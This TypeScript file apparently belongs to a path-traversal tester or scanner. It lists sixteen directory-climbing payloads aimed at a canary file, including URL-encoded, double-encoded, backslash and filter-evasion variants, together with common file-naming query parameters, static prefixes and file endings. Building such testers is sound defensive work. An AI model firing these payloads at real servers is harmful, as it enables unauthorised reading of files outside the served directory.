/**
 * The ways to write a climb out of a served directory into a request line, most telling first.
 *
 * A payload is a request path with `{{canary}}` where the path of the canary file goes, counted from the root of the
 * file system, without its ending; the separators inside that path are written as the one before it.
 */
export interface Climb {
  readonly name: string;
  readonly payload: string;
}

/** Deep enough for every directory a test runs in; further steps stay at the root. */
const DEPTH = 12;
const up = (step: string, separator: string): string => `${step}${separator}`.repeat(DEPTH);

export const CLIMBS: readonly Climb[] = [
  { name: 'plain', payload: `/${up('..', '/')}{{canary}}` },
  { name: 'encoded slash', payload: `/${up('..', '%2f')}{{canary}}` },
  { name: 'encoded dots', payload: `/${up('%2e%2e', '/')}{{canary}}` },
  { name: 'encoded dots and slash', payload: `/${up('%2e%2e', '%2f')}{{canary}}` },
  { name: 'doubled dots', payload: `/${up('....', '//')}{{canary}}` },
  { name: 'no leading slash', payload: `${up('..', '/')}{{canary}}` },
  { name: 'doubled slash', payload: `//${up('..', '/')}{{canary}}` },
  { name: 'dot before', payload: `/./${up('..', '/')}{{canary}}` },
  { name: 'directory before', payload: `/x/../${up('..', '/')}{{canary}}` },
  { name: 'backslash', payload: `/${up('..', '\\')}{{canary}}` },
  { name: 'encoded backslash', payload: `/${up('..', '%5c')}{{canary}}` },
  { name: 'twice encoded', payload: `/${up('%252e%252e', '%252f')}{{canary}}` },
  { name: 'dots around a separator', payload: `/${up('.%2e', '/')}{{canary}}` },
  { name: 'filtered once', payload: `/${up('..././', '')}{{canary}}` },
  { name: 'absolute', payload: '//{{canary}}' },
  { name: 'absolute, encoded', payload: '/%2f{{canary}}' },
];

/** Query strings that name a file. */
export const QUERIES: readonly string[] = ['?file=', '?path=', '?url=', '?name=', '?f=', '?filename=', '?p=', '?src='];

/** Where servers keep what they serve. */
export const PREFIXES: readonly string[] = ['', '/static', '/public', '/assets', '/files', '/img', '/js', '/css'];

/** Endings a server may ask for, first the one that is served by most. */
export const ENDINGS: readonly string[] = ['.txt', '.html', '.js', '.json', '.css', '.png', ''];

/** The separator that stands before the canary: its path is written with the same one. */
export function separatorOf(payload: string): string {
  return /(%252f|%2f|%5c|\\|\/)\{\{canary\}\}/i.exec(payload)?.[1] ?? '/';
}
